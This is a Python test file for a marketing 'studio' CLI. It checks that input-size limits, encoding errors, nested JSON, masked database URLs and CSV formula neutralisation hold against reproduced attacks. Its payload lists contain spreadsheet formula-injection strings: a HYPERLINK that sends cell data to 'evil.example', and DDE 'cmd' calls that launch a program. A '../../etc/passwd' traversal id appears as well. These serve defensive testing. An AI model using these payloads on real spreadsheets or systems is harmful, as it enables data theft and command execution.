"""Issue 12, items 6, 7, 9 and 13: each attack reproduced against the real CLI (a subprocess where the
bytes of argv or stdin matter, typer's CliRunner elsewhere) on a real SQLite database, and answered the
way the CLI contract promises: exit 2, one `error:` line on stderr naming the file, field or row and
the limit, nothing on stdout, nothing written. No model is loaded (every input is refused before).
"""

from __future__ import annotations

import csv
import json
import os
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from studio.batch.input import batch_id_for
from studio.config import get_settings

from .conftest import KITS_DIR

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def fresh_limits():
    from studio.limits import get_limits

    get_limits.cache_clear()
    yield
    get_limits.cache_clear()


def studio(*args, env: dict | None = None, stdin: bytes | None = None, timeout: int = 120) -> subprocess.CompletedProcess:
    """The real console entry point (studio.cli:main) in a fresh process; args may be bytes."""
    return subprocess.run([sys.executable, "-m", "studio.cli", *args], input=stdin, capture_output=True,
                          timeout=timeout, env={**os.environ, **(env or {})})


def cli(*args: str, stdin: bytes | str | None = None):
    from studio.cli import app

    return CliRunner().invoke(app, list(args), input=stdin)


def one_error_line(stderr: str | bytes) -> str:
    text = stderr.decode("utf-8") if isinstance(stderr, bytes) else stderr
    lines = text.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), f"want one error line, got:\n{text[:3000]}"
    return lines[0]


def refused(result, *expected: str) -> str:
    """Exit 2, nothing on stdout, one error line containing every `expected` text."""
    code = result.returncode if hasattr(result, "returncode") else result.exit_code
    assert code == 2, (code, result.stderr)
    assert not result.stdout, result.stdout
    line = one_error_line(result.stderr)
    for text in expected:
        assert text in line, (text, line)
    assert "Traceback" not in line
    return line


def queued() -> int:
    """Variants in the session's queue (other tests share it: compare before and after)."""
    from studio.review import ReviewQueue

    return len(ReviewQueue().list())


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# --------------------------------------------------------------------------- item 6: input limits


def test_check_refuses_a_50_mb_text_in_well_under_a_second_per_mb(tmp_path):
    """The attack: `studio check` on a 50 MB text ran > 300 s at 3.7 GB RSS. Now refused before reading."""
    big = tmp_path / "big.txt"
    big.write_bytes(b"Best deal ever! " * (50 * MB // 16))

    started = time.perf_counter()
    result = studio("check", str(big))
    elapsed = time.perf_counter() - started

    refused(result, "big.txt", "50.0 MB", "the limit is 16.0 MB", "STUDIO_MAX_CHECK_INPUT_BYTES")
    assert elapsed < 30, f"refusing took {elapsed:.1f} s"

    piped = studio("check", "-", stdin=big.read_bytes())
    refused(piped, "stdin", "over the limit of 16.0 MB")


def test_check_refuses_a_text_over_the_character_limit_and_names_the_line_of_a_jsonl(tmp_path):
    long_text = "Rain shell for wet commutes. " * 2000  # 58,000 characters
    refused(cli("check", "-", stdin=long_text), "stdin: 58,000 characters, the limit is 50,000",
            "STUDIO_MAX_CHECK_TEXT_CHARS")

    lines = tmp_path / "texts.jsonl"
    lines.write_text(json.dumps({"id": "a", "text": "fine"}) + "\n" + json.dumps({"id": "b", "text": long_text}) + "\n",
                     encoding="utf-8")
    refused(cli("check", "--jsonl", str(lines)), "texts.jsonl: line 2: field 'text': 58,000 characters")


def test_endless_inputs_are_cut_off_at_the_limit_not_read_forever():
    """A device or FIFO reports size 0, so the size check alone would let it through."""
    refused(cli("check", "/dev/zero"), "/dev/zero: over the limit of 16.0 MB")
    refused(cli("batch", "/dev/zero"), "zero: over the limit of 20.0 MB")
    refused(cli("kit", "validate", "/dev/zero"), "/dev/zero: over the limit of 1.0 MB")


def test_generate_refuses_an_overlong_brief_or_field_and_queues_nothing():
    before = queued()
    base = ["generate", "--kit", "northpeak", "--segment", "city-commuters", "--channel", "sms"]

    refused(cli(*base, "--brief", "x" * 2001), "--brief: 2,001 characters, the limit is 2,000", "STUDIO_MAX_BRIEF_CHARS")
    refused(cli(*base, "--brief", "Rain shell", "--product", "p" * 501), "--product: 501 characters, the limit is 500")
    refused(cli(*base, "--brief", "Rain shell", "--offer", "o" * 501), "--offer", "STUDIO_MAX_BRIEF_FIELD_CHARS")
    assert queued() == before, "nothing is queued"


def test_the_brief_limit_holds_in_the_service_every_entry_point_uses():
    """The app's /generate and MCP build the same Brief: the same refusal, as a ValueError they show."""
    from studio.domain import Brief
    from studio.limits import LimitError

    Brief(text="x" * 2000, product="p" * 500)  # at the limit: fine
    with pytest.raises(ValueError, match=r"brief: 2,001 characters, the limit is 2,000"):
        Brief(text="x" * 2001)
    with pytest.raises(ValueError, match=r"brief key_message: 501 characters"):
        Brief(text="ok", key_message="k" * 501)
    with pytest.raises(LimitError):
        from studio.limits import check_brief_fields

        check_brief_fields({"text": "x" * 2001})


def test_review_notes_reasons_and_comments_are_limited_before_the_queue_is_touched():
    long_note = "n" * 2001
    refused(cli("review", "approve", "v_nothere", "--by", "rita", "--note", long_note),
            "--note: 2,001 characters, the limit is 2,000", "STUDIO_MAX_NOTE_CHARS")
    refused(cli("review", "reject", "v_nothere", "--by", "rita", "--reason", long_note), "--reason: 2,001 characters")
    refused(cli("review", "request-changes", "v_nothere", "--by", "rita", "--note", long_note), "--note")
    refused(cli("review", "comment", "v_nothere", "--by", "rita", "--text", long_note), "--text")
    refused(cli("review", "approve", "v_nothere", "--by", "adam", "--override-reason", long_note), "--override-reason")

    # The service the app's approve/reject/request-changes call refuses first, too (the variant does
    # not exist: a limit error, not "no variant", proves nothing was looked up or written).
    from studio.limits import LimitError
    from studio.workflow import decide

    with pytest.raises(LimitError, match="reason: 2,001 characters"):
        decide("v_nothere", "reject", by="rita", note=long_note)


def test_batch_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    source = tmp_path / "huge.csv"
    with source.open("w", encoding="utf-8") as handle:
        handle.write("row_id,kit,segment,channels,market,brief\n")
        row = "r{},northpeak,city-commuters,sms,US," + "Rain shell for wet commutes " * 20 + "\n"
        for i in range(21 * MB // len(row) + 1):
            handle.write(row.format(i))

    result = studio("batch", str(source))

    refused(result, "huge.csv: 21.1 MB, the limit is 20.0 MB", "STUDIO_MAX_BATCH_FILE_BYTES")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["huge.csv"], "no report written"


def test_batch_rows_lines_and_brief_fields_over_their_limits_name_the_line_and_field(tmp_path):
    jsonl = tmp_path / "campaign.jsonl"
    row = {"row_id": "r1", "kit": "northpeak", "segment": "city-commuters", "channels": "sms", "market": "US"}
    jsonl.write_text("\n".join([
        json.dumps({**row, "brief": "b" * 2001}),
        json.dumps({**row, "row_id": "r2", "brief": "ok", "product": "p" * 501}),
        json.dumps({**row, "row_id": "r3", "brief": "x" * 70_000}),
    ]) + "\n", encoding="utf-8")

    result = studio("batch", str(jsonl))

    assert result.returncode == 2 and not result.stdout
    errors = result.stderr.decode().strip().splitlines()
    assert errors[0] == ("error: campaign.jsonl line 1, field 'brief': 2,001 characters, the limit is 2,000 "
                         "(STUDIO_MAX_BRIEF_CHARS)"), errors
    assert errors[1].startswith("error: campaign.jsonl line 2, field 'product': 501 characters, the limit is 500")
    assert errors[2].startswith("error: campaign.jsonl line 3: line of 68 KB, the limit is 64 KB"), errors
    assert "3 of 3 rows are invalid; nothing generated" in errors[3]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["campaign.jsonl"]

    from studio.batch.state import BatchStore

    assert BatchStore(get_settings().db_url).get(batch_id_for(__import__("hashlib").sha256(jsonl.read_bytes()).hexdigest())) is None

    many = tmp_path / "many.csv"
    many.write_text("row_id,kit,segment,channels,brief\n" + "".join(
        f"r{i},northpeak,city-commuters,sms,Rain shell\n" for i in range(5)), encoding="utf-8")
    refused(studio("batch", str(many), env={"STUDIO_MAX_BATCH_ROWS": "4"}),
            "many.csv: more than 4 rows, the limit is 4", "STUDIO_MAX_BATCH_ROWS")


# --------------------------------------------------------------------------- item 7: one line, not a traceback


def test_check_stdin_that_is_not_utf8_or_is_binary_is_one_line():
    refused(studio("check", "-", stdin=b"Best price \xff\xfe in town"), "stdin: not UTF-8 text (invalid byte at offset 11)")
    refused(studio("check", "-", stdin=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), "stdin: binary data (NUL byte at offset 8)")
    refused(studio("check", "--jsonl", "-", stdin=b'{"id": 1, "text": "\xc3\x28"}\n'), "stdin: not UTF-8 text")


def test_non_utf8_arguments_are_one_line_naming_the_option():
    """Undecodable argv bytes reach Python as lone surrogates; they used to fail in SQLite's encoder."""
    before = queued()
    refused(studio("review", "approve", "v_1", "--by", "rita", "--note", b"ok \xff\xfe"), "--note: not UTF-8 text")
    refused(studio("review", "reject", "v_1", "--by", "rita", b"--reason=\xff"), "--reason: not UTF-8 text")
    refused(studio("generate", "--kit", "northpeak", "--segment", "city-commuters", "--channel", "sms",
                   "--brief", b"\xc0\xaf"), "--brief: not UTF-8 text")
    # In-process (the app or a test passing the same string): the option's own check says the same.
    refused(cli("review", "approve", "v_1", "--by", "rita", "--note", "ok \udcff"), "--note: not UTF-8 text")
    assert queued() == before, "nothing is queued"


def test_a_channel_named_twice_is_refused_by_the_cli_and_by_the_service_the_app_uses():
    before = queued()
    result = cli("generate", "--kit", "northpeak", "--segment", "city-commuters", "--channel", "sms",
                 "--channel", "sms", "--brief", "Rain shell")
    refused(result, "--channel: channel(s) 'sms' listed twice")
    assert queued() == before, "nothing is queued"

    from pydantic import ValidationError

    from studio.domain import Brief
    from studio.workflow import GenerateRequest

    with pytest.raises(ValidationError, match="listed twice"):  # api_generate builds exactly this
        GenerateRequest(kit="northpeak", segment="city-commuters", channels=["sms", "email", "sms"],
                        brief=Brief(text="Rain shell"))


def test_deeply_nested_json_lines_are_one_line_in_batch_and_check(tmp_path):
    """The attack: 100,000 nested brackets made json.loads raise RecursionError (a traceback)."""
    deep = "[" * 100_000 + "]" * 100_000
    checks = tmp_path / "texts.jsonl"
    checks.write_text('{"id": "a", "text": "fine"}\n{"id": "b", "text": ' + deep + "}\n", encoding="utf-8")
    refused(cli("check", "--jsonl", str(checks)), "texts.jsonl: line 2: JSON nested deeper than 16 levels",
            "STUDIO_MAX_JSON_DEPTH")

    # Within the Python parser's reach but over the limit: the same answer.
    medium = tmp_path / "medium.jsonl"
    medium.write_text('{"id": "a", "text": "x", "extra": ' + "[" * 40 + "]" * 40 + "}\n", encoding="utf-8")
    refused(cli("check", "--jsonl", str(medium)), "medium.jsonl: line 1: JSON nested deeper than 16 levels")

    rows = tmp_path / "campaign.jsonl"
    rows.write_text('{"kit": "northpeak", "segment": "city-commuters", "channels": "sms", "brief": "Rain shell"}\n'
                    '{"kit": "northpeak", "segment": "city-commuters", "channels": ' + "[" * 10_000 + "]" * 10_000
                    + ', "brief": "x"}\n', encoding="utf-8")
    result = studio("batch", str(rows))
    assert result.returncode == 2 and not result.stdout
    stderr = result.stderr.decode()
    assert "Traceback" not in stderr and "RecursionError" not in stderr
    assert "error: campaign.jsonl line 2: JSON nested deeper than 16 levels (STUDIO_MAX_JSON_DEPTH)" in stderr, stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["campaign.jsonl", "medium.jsonl", "texts.jsonl"]


def test_a_kit_yaml_that_is_not_utf8_is_one_line_in_validate_and_install(kit_copy, tmp_path):
    kit = kit_copy("northpeak")
    text = (kit / "kit.yaml").read_bytes()
    (kit / "kit.yaml").write_bytes(text.replace(b"name:", b"name: \xff\xfe", 1))

    refused(cli("kit", "validate", str(kit)), "northpeak/kit.yaml: not UTF-8 text (invalid byte at offset")

    from studio.kits import KitError
    from studio.kits.install import install_kit

    archive = tmp_path / "brand.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in kit.rglob("*"):
            if path.is_file():
                zf.write(path, path.relative_to(kit.parent))
    kits_dir = tmp_path / "kits"
    kits_dir.mkdir()
    with pytest.raises(KitError, match=r"^brand\.zip: kit\.yaml: not UTF-8 text \(invalid byte at offset \d+\)$"):
        import inspect

        as_admin = {"by": "adam"} if "by" in inspect.signature(install_kit).parameters else {}
        install_kit(archive, kits_dir, **as_admin)
    assert list(kits_dir.iterdir()) == [], "nothing installed"

    (kit / "kit.yaml").write_bytes(text + b"# " + b"x" * MB + b"\n")
    refused(cli("kit", "validate", str(kit)), "bytes, the limit is 1,048,576 bytes", "STUDIO_MAX_KIT_YAML_BYTES")


def test_an_unreachable_database_is_one_line_with_the_password_masked(tmp_path):
    """The attack: a ~490-line traceback that also printed the URL."""
    url = f"postgresql://studio:s3cret-pw@127.0.0.1:{free_port()}/studio"

    result = studio("review", "list", env={"STUDIO_DATABASE_URL": url})

    line = refused(result, "cannot open the database postgresql://studio:***@127.0.0.1:", "Connection refused")
    assert "s3cret-pw" not in result.stderr.decode()

    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the database folder should be")
    result = studio("review", "list", env={"STUDIO_DATABASE_URL": f"sqlite:///{blocked}/db/studio.db"})
    refused(result, "cannot open the database sqlite:///")
    assert line  # one line each


# --------------------------------------------------------------------------- item 9: CSV formula injection


PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_report_cells_that_would_start_a_formula_are_quoted():
    from studio.spreadsheet import safe_cell

    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Rain shell - 20% off") == "Rain shell - 20% off"
    assert safe_cell(-3) == -3 and safe_cell(7) == 7, "numbers stay numbers"


def test_batch_report_of_stored_rows_quotes_formula_row_ids(tmp_path):
    """The report as `studio batch` writes it (real parse, real SQLite batch store, real writer), fast:
    the rows are invalid, so nothing is generated, and their user-chosen row ids reach the report."""
    from studio.batch.input import parse_file
    from studio.batch.report import report_lines, report_path, write_report
    from studio.batch.state import BatchStore

    evil = ["=1+1", "+SUM(A1:A9)", "-2+3+cmd|' -C calc'!A0", "@SUM(1+1)"]
    source = tmp_path / "campaign.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["row_id", "kit", "segment", "channels", "market", "brief"]]
                                     + [[row_id, "nokit", "s", "sms", "US", "b"] for row_id in evil])
    parsed = parse_file(source)
    store = BatchStore(f"sqlite:///{tmp_path / 'studio.db'}")
    store.register(parsed, by="alice")

    path = write_report(report_path(str(source), parsed.batch_id, None), report_lines(store.tasks(parsed.batch_id), {}))

    lines = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [line["row_id"] for line in lines] == ["'" + row_id for row_id in evil]
    assert all(line["status"] == "invalid" for line in lines)


@pytest.mark.slow  # ~20 s: the batch warms up the voice store before its one (failing) row
def test_batch_report_csv_neutralises_formula_cells_end_to_end(tmp_path):
    """Row ids are the user's text and land in the report; with --skip-invalid and an unreachable model
    endpoint (no model load) every row is reported: invalid rows and a failed one."""
    source = tmp_path / "campaign.csv"
    # Row ids may not hold '/', so the payloads are the slash-free forms of the same attacks.
    evil = ["=HYPERLINK(\"evil.example?\"&A1,\"x\")", "+SUM(A1:A9)*cmd|' -C calc'!A0", "-2+3+cmd|' -C calc'!A0",
            "@SUM(1+1)*cmd|' -C calc'!A0"]
    rows = [["row_id", "kit", "segment", "channels", "market", "brief"],
            [evil[0], "northpeak", "city-commuters", "sms", "US", "Rain shell"]]
    rows += [[payload, "nokit", "s", "sms", "US", "b"] for payload in evil[1:]]
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    down = {"STUDIO_LLM_BACKEND": "openai", "STUDIO_LLM_BASE_URL": f"http://127.0.0.1:{free_port()}/v1",
            "STUDIO_LLM_API_KEY": "none", "STUDIO_LLM_MAX_RETRIES": "0", "STUDIO_LLM_TIMEOUT": "2",
            "STUDIO_CANDIDATES": "1", "STUDIO_REVISE_ROUNDS": "0"}

    result = studio("batch", str(source), "--skip-invalid", "--json", env=down, timeout=300)

    assert result.returncode in (0, 1), result.stderr.decode()[-3000:]
    report = Path(json.loads(result.stdout)["report"])
    cells = [cell for line in csv.reader(report.open(encoding="utf-8", newline="")) for cell in line]
    ids = {r[0] for r in rows[1:]}
    assert {c for c in cells if c.lstrip("'") in ids} == {"'" + i for i in ids}, cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


# --------------------------------------------------------------------------- item 13: leftovers and leaks


def test_resume_of_an_unknown_batch_writes_no_lock_file_and_shows_no_server_path():
    data_dir = get_settings().data_dir
    before = sorted((data_dir / "batches").glob("*")) if (data_dir / "batches").exists() else []

    line = refused(cli("batch", "--resume", "b_0123456789abcdef"),
                   "no batch 'b_0123456789abcdef' in the studio database")
    assert str(data_dir) not in line and "sqlite" not in line

    for bad_id in ("nosuchbatch", "../../etc/passwd", ".hidden"):
        refused(cli("batch", "--resume", bad_id), "is not a batch id")

    after = sorted((data_dir / "batches").glob("*")) if (data_dir / "batches").exists() else []
    assert after == before, "no lock file left behind"


def test_unknown_kit_message_names_no_server_folder():
    line = refused(cli("kit", "show", "no-such-kit"), "unknown kit 'no-such-kit' (known: ")
    assert str(KITS_DIR) not in line


def test_database_urls_are_masked():
    from studio.review.db import mask_url

    assert mask_url("postgresql://u:pw@db:5432/studio") == "postgresql://u:***@db:5432/studio"
    assert "pw" not in mask_url("postgresql://u@db/studio?password=pw")
    assert mask_url("sqlite:////srv/studio.db") == "sqlite:////srv/studio.db"
